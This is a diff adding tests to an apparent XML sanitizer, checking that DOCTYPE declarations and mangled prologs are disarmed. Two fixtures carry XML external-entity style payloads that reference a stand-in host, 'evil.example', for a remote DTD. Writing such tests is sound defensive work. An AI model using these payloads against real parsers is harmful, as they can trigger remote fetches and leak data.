@@ -141,6 +141,44 @@ def test_dtd_attacks_are_cut_out(tmp_path: Path, payload: bytes, detail: str,
     assert "".join(lxml.etree.parse(str(out)).getroot().itertext()) == text
 
 
+def test_dtd_the_byte_cut_cannot_read_goes_with_the_tree(tmp_path: Path) -> None:
+    """An external DTD next to an internal subset expat refuses (a comment with "--")
+    and no entity declaration: found in the parsed tree instead, and the document
+    rebuilt without it (a case found by mutating the fixtures)."""
+    data = (b'<?xml version="1.0"?>\n<!-- kept -->\n<!DOCTYPE r SYSTEM "http://evil.example/x.dtd" '
+            b"[<!ELEMENT r ANY><!-- x -- y -->]>\n<r>a&nbsp;b&send;c</r>\n")
+    report, out = run(tmp_path, data, "r.xml")
+    assert report.verdict is Verdict.DISARMED
+    assert ("xml.dtd", "!DOCTYPE") in keys(report)
+    assert xml_problems(out) == []
+    result = out.read_bytes()
+    assert b"DOCTYPE" not in result and b"evil.example" not in result and b"<!-- kept -->" in result
+    assert "".join(lxml.etree.parse(str(out)).getroot().itertext()) == "a\xa0bc"
+
+
+def test_dtd_no_parser_reads_is_cut_out(tmp_path: Path) -> None:
+    data = (b'<?xml version="1.0"?>\n<!DOCTYPE r SYSTEM "http://evil.example/x.dtd" '
+            b"[<!ATTLIST r a CDATA #IMPLIED %x; >]>\n<r>text</r>\n")
+    report, out = run(tmp_path, data, "r.xml")
+    assert report.verdict is Verdict.DISARMED
+    assert keys(report) == {("xml.dtd", "!DOCTYPE"), ("xml.repaired", "")}
+    assert xml_problems(out) == [] and b"evil.example" not in out.read_bytes()
+    assert "".join(lxml.etree.parse(str(out)).getroot().itertext()) == "text"
+
+
+@pytest.mark.parametrize("payload", [
+    b'<?xml} version="1.0"?>\n<?keep me?>\n<r>x</r>',           # a broken declaration
+    b'<?xml version="1.0" encoding="UTF-1U"?>\n<r>x</r>',        # an unknown encoding
+])
+def test_mangled_prologs_are_no_internal_error(tmp_path: Path, payload: bytes) -> None:
+    report, out = run(tmp_path, payload, "m.xml")
+    assert report.verdict is not Verdict.FAILED, report.reason
+    if report.verdict is Verdict.BLOCKED:
+        assert (report.reason or "").startswith("XML ")
+    else:
+        assert xml_problems(out) == []
+
+
 def test_plain_data_file_is_delivered_byte_for_byte(tmp_path: Path) -> None:
     data = ('<?xml version="1.0" encoding="UTF-8"?>\n<!-- 予算 -->\n<budget year="2026">'
             '<item online="no"><name>道路</name><yen>1200</yen></item>'
